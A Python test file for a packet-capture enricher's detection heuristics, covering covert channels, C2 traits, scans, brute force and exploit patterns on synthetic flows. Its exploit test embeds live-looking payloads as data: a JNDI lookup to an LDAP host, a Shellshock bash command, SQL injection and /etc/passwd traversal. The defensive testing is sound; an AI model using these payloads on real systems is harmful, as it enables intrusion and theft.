"""Heuristics v2 (issue 8) on synthetic flows shaped like the misses the issue describes, and
the benign look-alikes they must leave alone."""

from __future__ import annotations

import random
from datetime import UTC, datetime, timedelta
from typing import Any

from pcaptotal_enricher.heuristics import DetectionConfig, Severity, run_all
from pcaptotal_enricher.heuristics.beaconing import session_beaconing
from pcaptotal_enricher.heuristics.correlate import correlate
from pcaptotal_enricher.heuristics.covert import icmp_tunnel, opaque_sessions, retried_destination
from pcaptotal_enricher.heuristics.dns import dns_tunnelling, encoded_names
from pcaptotal_enricher.heuristics.exploit import exploit_payloads, kerberoasting, tls_heartbleed
from pcaptotal_enricher.heuristics.http import http_c2_traits, http_raw_ip
from pcaptotal_enricher.heuristics.recon import (
    brute_force,
    host_discovery,
    scanner_tools,
    small_scan,
    web_scan,
)
from pcaptotal_enricher.heuristics.tls import quic_without_sni, tls_certificate_traits
from pcaptotal_enricher.verdict import Verdict, analyse_capture

CFG = DetectionConfig()
T0 = datetime(2024, 3, 5, 18, 0, tzinfo=UTC)
_n = iter(range(1_000_000))


def flow(at: float = 0.0, /, **kw: Any) -> dict[str, Any]:
    i = next(_n)
    doc: dict[str, Any] = {
        "_id": f"cap-{i}",
        "source.ip": "10.0.0.5",
        "source.port": 40000 + i % 20000,
        "destination.ip": "10.0.0.9",
        "destination.port": 80,
        "network.transport": "tcp",
        "event.start": (T0 + timedelta(seconds=at)).isoformat(),
    }
    doc.update(kw)
    return doc


def names(findings: list[Any]) -> set[str]:
    return {f.name for f in findings}


# -- ICMP covert channel ----------------------------------------------------------------------
def icmp(out_p: int, out_b: int, in_p: int, in_b: int, **kw: Any) -> dict[str, Any]:
    counts = [f"8/0={out_p}"] + ([f"0/0={in_p}"] if in_p else [])
    return flow(
        **{
            "network.transport": "icmp",
            "destination.ip": "203.0.113.7",
            "source.packets": out_p,
            "source.bytes": out_b,
            "destination.packets": in_p,
            "destination.bytes": in_b,
            "pcaptotal.icmp.type_code_count": counts,
            **kw,
        }
    )


def test_icmp_echo_channel_is_found_and_ping_is_not() -> None:
    # icmpsh-style: requests carry output (large), replies carry commands (small)
    [f] = icmp_tunnel([icmp(40, 40 * 540, 40, 40 * 80)], CFG)
    assert f.name == "icmp-tunnel" and f.severity is Severity.HIGH
    assert "replies average 80 B but requests 540 B" in f.explanation
    # Linux ping: 98 B frames both ways; Windows ping: 74 B
    assert icmp_tunnel([icmp(20, 20 * 98, 20, 20 * 98), icmp(4, 296, 4, 296)], CFG) == []


# -- HTTP C2 polling an internal address on an odd port: four lows add up -----------------------
def test_low_findings_on_one_destination_add_up_but_scattered_ones_do_not() -> None:
    c2 = [
        flow(
            30.0 * i + (7 if i % 2 else 0),
            **{
                "destination.port": 8888,
                "network.protocol": ["http"],
                "http.request.method": ["POST"],
                "url.domain": ["10.0.0.9"],
                "url.original": ["/beacon"],
                "user_agent.original": ["python-requests/2.31"],
                "pcaptotal.tcp_flags": ["SYN", "ACK", "PSH", "FIN"],
                "source.packets": 5,
                "destination.packets": 4,
            },
        )
        for i in range(4)
    ]
    result = analyse_capture(c2)
    corr = [f for f in result.findings if f["name"] == "correlated-destination"]
    assert corr and corr[0]["severity"] == "medium" and "10.0.0.9" in corr[0]["explanation"]
    assert result.verdict is Verdict.SUSPICIOUS
    # three low findings, each about a different destination of a busy capture
    firefox = ["Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0"]
    http = {"network.protocol": ["http"], "http.request.method": ["GET"]}
    busy = [
        flow(0, **http, **{"destination.ip": "10.0.5.1", "user_agent.original": ["curl/8.0"],
                           "url.domain": ["intranet.example"]}),
        flow(1, **http, **{"destination.ip": "10.0.5.2", "destination.port": 8081,
                           "user_agent.original": firefox, "url.domain": ["wiki.example"]}),
        flow(2, **http, **{"destination.ip": "10.0.5.3", "user_agent.original": firefox,
                           "url.domain": ["10.0.5.3"]}),
    ]  # fmt: skip
    assert len(run_all(busy, CFG)) == 3
    scattered = analyse_capture(busy)
    assert not any(f["name"] == "correlated-destination" for f in scattered.findings)
    assert scattered.verdict is Verdict.CLEAN


def test_correlation_ignores_capture_wide_findings() -> None:
    flows = [flow(i, **{"destination.ip": f"10.1.0.{i}"}) for i in range(10)]
    wide = run_all([], CFG)  # no findings at all
    assert correlate(wide, flows, CFG) == []


# -- HTTP exfiltration of credentials and system information ---------------------------------
def test_host_inventory_and_credentials_in_forms() -> None:
    post = flow(
        **{
            "destination.ip": "93.184.216.34",
            "network.protocol": ["http"],
            "http.request.method": ["POST"],
            "url.original": ["/gate.php"],
            "url.domain": ["93.184.216.34"],
            "pcaptotal.http.request.form_field": ["id", "os", "pc", "un", "password"],
        }
    )
    found = http_c2_traits([post], CFG)
    inv = [f for f in found if f.name == "http-host-inventory-form"]
    assert inv and inv[0].severity is Severity.MEDIUM and "os, pc, un" in inv[0].explanation
    assert "http-cleartext-credentials" in names(found)
    [raw] = http_raw_ip([post], CFG)  # POST to a public raw IP: medium; a GET stays low
    assert raw.severity is Severity.MEDIUM
    get = dict(post, **{"http.request.method": ["GET"], "_id": "get"})
    assert http_raw_ip([get], CFG)[0].severity is Severity.LOW
    login_form = dict(post, **{"pcaptotal.http.request.form_field": ["username", "password"]})
    assert "http-host-inventory-form" not in names(http_c2_traits([login_form], CFG))


# -- QUIC to a raw IP without SNI -------------------------------------------------------------
def test_quic_without_sni_to_public_address() -> None:
    q = flow(
        **{
            "network.transport": "udp",
            "destination.ip": "93.184.216.35",
            "destination.port": 443,
            "pcaptotal.quic.version": ["1"],
            "tls.client.ja4": ["q13d0310h3_55b375c5d22e_cd85d2d88918"],
        }
    )
    [f] = quic_without_sni([q], CFG)
    assert f.severity is Severity.MEDIUM and "93.184.216.35:443" in f.explanation
    named = dict(q, **{"tls.client.server_name": ["www.google.com"]})
    truncated = {k: v for k, v in q.items() if k != "tls.client.ja4"}
    assert quic_without_sni([named, truncated], CFG) == []


# -- a small nmap scan of a handful of hosts on 80 and 443 -----------------------------------
def test_small_half_open_scan_and_host_discovery() -> None:
    flows = []
    for h in range(4):
        dst = f"10.0.1.{h + 10}"
        for p in (80, 443):
            flows.append(  # SYN, SYN-ACK, client RST: half-open
                flow(
                    h,
                    **{
                        "destination.ip": dst,
                        "destination.port": p,
                        "pcaptotal.tcp_flags": ["SYN", "ACK", "RST"],
                        "source.packets": 2,
                        "destination.packets": 1,
                    },
                )
            )
    [scan] = small_scan(flows, CFG)
    assert scan.severity is Severity.HIGH and "8 probes reset by the client" in scan.explanation
    discovery = []
    for h in range(3):  # nmap -sn: ICMP echo + TCP ACK to 80 per host
        dst = f"10.0.2.{h + 1}"
        discovery.append(icmp(1, 42, 1, 42, **{"destination.ip": dst}))
        discovery.append(
            flow(
                **{
                    "destination.ip": dst,
                    "destination.port": 80,
                    "pcaptotal.tcp_flags": ["ACK", "RST"],
                    "source.packets": 1,
                    "destination.packets": 1,
                }
            )
        )
    [d] = host_discovery(discovery, CFG)
    assert d.severity is Severity.HIGH and "3 hosts" in d.explanation
    # a client whose connections all work is no scan
    ok = [
        flow(
            i,
            **{
                "destination.ip": f"10.0.3.{i}",
                "pcaptotal.tcp_flags": ["SYN", "ACK", "PSH", "FIN"],
                "source.packets": 6,
                "destination.packets": 5,
            },
        )
        for i in range(20)
    ]
    assert small_scan(ok, CFG) == [] and host_discovery(ok, CFG) == []


def test_scanner_fingerprints_and_web_scan() -> None:
    nse = flow(**{"user_agent.original": ["Mozilla/5.0 (compatible; Nmap Scripting Engine)"]})
    probe = flow(**{"url.original": ["/nice%20ports%2C/Tri%6Eity.txt%2ebak"]})
    [f] = scanner_tools([nse, probe], CFG)
    assert f.severity is Severity.HIGH and f.matched
    browser = flow(**{"user_agent.original": ["Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0"]})
    assert scanner_tools([browser], CFG) == []
    many = [
        flow(
            i * 0.01,
            **{
                "http.request.method": ["GET"],
                "url.original": [f"/probe{i}"],
                "http.response.status_code": [404],
            },
        )
        for i in range(120)
    ]
    [w] = web_scan(many, CFG)
    assert "120 distinct URIs" in w.explanation


def test_brute_force_by_session_shape_and_failures() -> None:
    ssh = [
        flow(10.0 * i, **{"destination.port": 22, "event.duration": 2_000_000_000})
        for i in range(12)
    ]
    [f] = brute_force(ssh, CFG)
    assert f.severity is Severity.MEDIUM and "12 short SSH attempts" in f.explanation
    logins = [
        flow(
            i,
            **{
                "http.request.method": ["POST"],
                "url.original": ["/wp-login.php"],
                "http.response.status_code": [401],
            },
        )
        for i in range(10)
    ]
    [g] = brute_force(logins, CFG)
    assert g.severity is Severity.HIGH and "10 failure replies" in g.explanation
    assert brute_force(ssh[:3], CFG) == []


# -- exploitation in cleartext ----------------------------------------------------------------
def test_exploit_patterns_quote_the_bytes() -> None:
    flows = [
        flow(**{"http.request.referrer": ["${${lower:j}ndi:ldap://198.51.100.1/a}"]}),
        flow(**{"user_agent.original": ["() { :; }; /bin/bash -c 'id'"]}),
        flow(**{"url.original": ["/item.php?id=1%27%20UNION%20SELECT%20user,pass%20FROM%20u"]}),
        flow(**{"url.original": ["/download?file=..%2F..%2F..%2Fetc%2Fpasswd"]}),
        flow(**{"dns.question.name": ["${jndi:dns://x.example.com/a}"]}),
    ]
    found = {f.name: f for f in exploit_payloads(flows, CFG)}
    assert set(found) >= {
        "exploit-jndi-lookup",
        "exploit-shellshock",
        "exploit-sql-injection",
        "exploit-path-traversal",
    }
    assert "lower:j" in (found["exploit-jndi-lookup"].matched or "")
    assert "UNION SELECT" in (found["exploit-sql-injection"].matched or "")
    benign = [
        flow(**{"url.original": ["/wiki/O'Reilly_Media", "/a/b/../c.css", "/search?q=select+all"]}),
        flow(**{"user_agent.original": ["Mozilla/5.0 (Windows NT 10.0; Win64; x64)"]}),
        flow(**{"url.original": ["/api/v1/items?sort=price;desc"]}),
    ]
    assert exploit_payloads(benign, CFG) == []


def test_heartbleed_and_kerberoasting() -> None:
    hb = flow(**{"pcaptotal.tls.heartbeat.payload_length": [16365], "destination.port": 443})
    [f] = tls_heartbleed([hb, flow(**{"pcaptotal.tls.heartbeat.payload_length": [16]})], CFG)
    assert "16365 B" in f.explanation and f.severity is Severity.HIGH
    roast = flow(**{"pcaptotal.kerberos.etype": ["TGS-REQ:18", "TGS-REP:23", "TGS-REP:18"]})
    legacy = flow(**{"pcaptotal.kerberos.etype": ["TGS-REQ:23", "TGS-REP:23"]})  # RC4-only realm
    [k] = kerberoasting([roast, legacy], CFG)
    assert k.severity is Severity.MEDIUM and "etype 23" in k.explanation


def test_c2_default_certificate() -> None:
    cs = flow(
        **{
            "destination.ip": "198.51.100.9",
            "tls.server.x509.subject.distinguished_name": ["CN=Major Cobalt Strike,O=cobaltstrike"],
        }
    )
    [f] = tls_certificate_traits([cs], CFG)
    assert f.name == "tls-c2-default-certificate" and f.matched == "Major Cobalt Strike"


# -- covert/custom channels -------------------------------------------------------------------
def test_custom_protocol_on_tls_port_and_retries() -> None:
    est = {"pcaptotal.tcp_flags": ["SYN", "ACK", "PSH"], "destination.packets": 10}
    custom = flow(**{"destination.ip": "198.51.100.5", "destination.port": 443, **est})
    tls = dict(custom, **{"_id": "tls", "tls.client.ja3": ["abc"], "network.protocol": ["tls"]})
    assert names(opaque_sessions([custom], CFG)) == {"tls-port-without-handshake"}
    assert opaque_sessions([tls], CFG) == []
    dead = flow(
        **{
            "destination.ip": "198.51.100.5",
            "destination.port": 443,
            "pcaptotal.tcp_flags": ["SYN"],
            "source.packets": 7,
            "destination.packets": 0,
        }
    )
    [r] = retried_destination([custom, dead], CFG)
    assert "7 unanswered SYN(s)" in r.explanation


def test_dnsbl_lookups_are_not_tunnelling() -> None:
    lookups = [
        flow(**{"dns.question.name": [f"{i}.{i + 1}.113.203.zen.spamhaus.org"]}) for i in range(60)
    ]
    assert dns_tunnelling(lookups, CFG) == []


def test_encoded_names_without_a_parent_domain_add_up_per_client() -> None:
    rng = random.Random(5)
    hexes = ["".join(rng.choice("0123456789abcdef") for _ in range(60)) for _ in range(5)]
    tunnel = [flow(**{"dns.question.name": [f"dnscat.{h}.{h[:20]}"]}) for h in hexes]
    [f] = encoded_names(tunnel, CFG)
    assert f.severity is Severity.MEDIUM and "5 names" in f.explanation
    nsec3 = [  # 32-char base32 hash labels (DNSSEC) stay below the 40-char floor
        flow(**{"dns.question.name": [f"{h[:32]}.sshfp.net"]}) for h in hexes
    ]
    assert encoded_names(nsec3, CFG) == []


def test_certificate_not_covering_the_server_name() -> None:
    asked = {"tls.client.server_name": ["update.example.com"], "destination.ip": "93.184.216.34"}
    wrong = flow(**asked, **{"tls.server.x509.alternative_names": ["localhost", "*.other.net"]})
    [f] = [x for x in tls_certificate_traits([wrong], CFG) if x.name.endswith("name-mismatch")]
    assert "'update.example.com'" in f.explanation and "localhost" in f.explanation
    wildcard = flow(**asked, **{"tls.server.x509.alternative_names": ["*.example.com"]})
    deeper = flow(**asked, **{"tls.server.x509.subject.common_name": ["*.com"]})
    found = tls_certificate_traits([wildcard, deeper], CFG)
    assert [x.flow_ids for x in found] == [(deeper["_id"],)]


def test_check_ins_inside_one_session_are_a_low_corroborating_finding() -> None:
    offsets = [1000 + 20_000 * i + (i % 3) * 400 for i in range(30)]
    session = flow(
        **{
            "destination.ip": "93.184.216.34",
            "destination.port": 7010,
            "event.duration": 720 * 10**9,
            "pcaptotal.client.burst_offset_ms": offsets,
            "pcaptotal.client.burst_bytes": [275 + i % 2 for i in range(30)],
        }
    )
    [f] = session_beaconing([session], CFG)
    assert f.severity is Severity.LOW and "30 bursts" in f.explanation
    assert "every 20." in f.explanation
    chatty = dict(
        session,
        **{
            "_id": "chatty",
            "pcaptotal.client.burst_offset_ms": [int(1000 * (i**1.7)) for i in range(30)],
            "pcaptotal.client.burst_bytes": [100 * (i % 7 + 1) for i in range(30)],
        },
    )
    assert session_beaconing([chatty], CFG) == []
